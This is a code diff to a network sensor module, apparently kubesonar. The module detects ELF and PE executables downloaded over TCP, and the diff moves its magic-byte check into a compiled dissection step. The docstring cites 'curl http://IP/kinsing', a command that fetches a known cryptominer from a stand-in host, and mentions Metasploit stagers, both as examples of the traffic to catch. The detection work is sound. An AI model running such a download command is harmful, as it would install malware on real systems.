@@ -3,8 +3,9 @@ the segment's start or at the start of an HTTP response's body (ingress tool tra
 
 A downloaded tool's first segment starts with its header: ``curl http://IP/kinsing`` gets the response
 headers, then (in the same segment or the next) the ELF; Metasploit's stagers read a 4-byte length, then
-a segment that starts with the stage DLL's ``MZ``. The first two bytes are tested vectorised
-(:func:`candidate_rows`); only the rare segments that pass, and HTTP responses, are read in Python.
+a segment that starts with the stage DLL's ``MZ``. The first two bytes are tested by the compiled
+dissection (sensor/payload_kinds.py EXECUTABLE_START); only the rare segments that pass, and HTTP
+messages, are read here, in Python.
 Archives (gzip, a .deb's ``!<arch>``, zip) and anything over TLS are not executables here.
 """
 
@@ -15,15 +16,14 @@ import numpy as np
 from kubesonar.sensor import payload_kinds
 from kubesonar.sensor.dissect import PacketFields, captured_payload
 from kubesonar.sensor.packets import PacketBatch
-from kubesonar.shared.flow import IPPROTO_TCP, Executable
+from kubesonar.shared.flow import Executable
 
 ELF_MAGIC, PE_MAGIC = b"\x7fELF", b"MZ"
-_ELF_HEADER_START = 20  # e_ident (16), e_type (2), e_machine (2): what is checked
+_ELF_HEADER_START = payload_kinds.EXECUTABLE_LEAST  # e_ident (16), e_type (2), e_machine (2): what is checked
 # i386, ARM, x86-64, AArch64, RISC-V: what containers run
 ELF_MACHINES = frozenset((0x03, 0x28, 0x3E, 0xB7, 0xF3))
 _ELF_TYPES = (2, 3)  # ET_EXEC, ET_DYN (a PIE, or a shared object)
 _E_LFANEW = 0x3C  # where the DOS header keeps the PE header's offset (u32, little-endian)
-_SMALLEST = _ELF_HEADER_START  # a segment shorter than this cannot hold a header worth checking
 _HTTP_RESPONSE = b"HTTP/"
 _HEADERS_END = b"\r\n\r\n"
 
@@ -56,24 +56,11 @@ def payload_executable(payload: bytes) -> Executable:
     return executable_kind(payload)
 
 
-def candidate_rows(batch: PacketBatch, pf: PacketFields) -> np.ndarray:
-    """Rows whose TCP payload may start an executable: its first captured bytes are ``\\x7fE`` or ``MZ``,
-    or it is an HTTP message (sensor/payload_kinds.py; a response's body is looked for). Vectorised; the
-    first byte is read only where the payload is long enough, the second only where the first matched."""
-    rows = np.flatnonzero((pf.proto == IPPROTO_TCP) & (pf.payload_len >= _SMALLEST))
-    if not len(rows):
-        return rows
-    http = pf.payload_kind[rows] == payload_kinds.HTTP
-    start = pf.payload_pos[rows].astype(np.int64)
-    rows, http, start = (a[start + 2 <= batch.caplen[rows]] for a in (rows, http, start))
-    at = batch.offset[rows] + start
-    first = batch.data[at]
-    maybe = (first == ELF_MAGIC[0]) | (first == PE_MAGIC[0])
-    second = batch.data[at[maybe] + 1]
-    header = np.zeros(len(rows), dtype=bool)
-    header[maybe] = ((first[maybe] == ELF_MAGIC[0]) & (second == ELF_MAGIC[1])) | (
-        (first[maybe] == PE_MAGIC[0]) & (second == PE_MAGIC[1]))
-    return rows[header | http]
+def candidate_rows(pf: PacketFields) -> np.ndarray:
+    """Rows whose TCP payload may start an executable: the dissection found it starts ``\\x7fE`` or ``MZ``
+    (sensor/payload_kinds.py EXECUTABLE_START), or it is an HTTP message (a response's body is looked for)."""
+    kind = pf.payload_kind
+    return np.flatnonzero((kind == payload_kinds.EXECUTABLE_START) | (kind == payload_kinds.HTTP))
 
 
 class Executables:
@@ -87,7 +74,7 @@ class Executables:
 
     def codes(self, batch: PacketBatch, pf: PacketFields) -> np.ndarray:
         codes = np.zeros(len(batch), dtype=pf.exec_code.dtype)
-        rows = candidate_rows(batch, pf)
+        rows = candidate_rows(pf)
         if len(rows) > self.max_per_call:
             self.dropped += len(rows) - self.max_per_call
             rows = rows[: self.max_per_call]
